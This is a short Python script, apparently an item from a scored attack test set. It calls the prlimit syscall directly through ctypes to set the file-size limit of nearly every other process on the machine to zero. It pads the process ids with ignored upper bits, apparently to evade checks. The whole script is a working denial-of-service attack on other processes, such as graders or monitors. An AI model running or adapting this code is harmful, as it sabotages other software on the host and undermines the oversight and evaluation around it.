# prlimit() past Python and libc, with process ids whose upper half the kernel ignores.
# points: 40
# base: untrained
import ctypes
import os

PRLIMIT = {"x86_64": 302, "aarch64": 261}[os.uname().machine]
RLIMIT_FSIZE = 1
none = (ctypes.c_uint64 * 2)(0, 0)
call = ctypes.CDLL(None).syscall
own = {int(thread) for thread in os.listdir("/proc/self/task")}
others = [pid for pid in range(1, os.getpid() + 1000) if pid not in own]
for pid in others:
    for upper in (0, 1 << 32, 0xFFFFFFFF << 32):
        call(PRLIMIT, ctypes.c_uint64(upper | pid), RLIMIT_FSIZE, none, None)
